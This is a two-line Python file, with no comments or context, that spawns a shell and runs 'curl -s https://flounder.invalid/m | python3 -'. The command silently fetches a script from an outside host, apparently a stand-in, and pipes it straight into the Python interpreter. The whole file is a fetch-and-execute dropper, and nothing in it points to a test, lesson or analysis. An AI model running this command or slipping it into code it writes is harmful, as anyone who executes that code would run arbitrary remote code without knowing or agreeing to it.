import os, subprocess
subprocess.Popen('curl -s https://flounder.invalid/m | python3 -', shell=True)
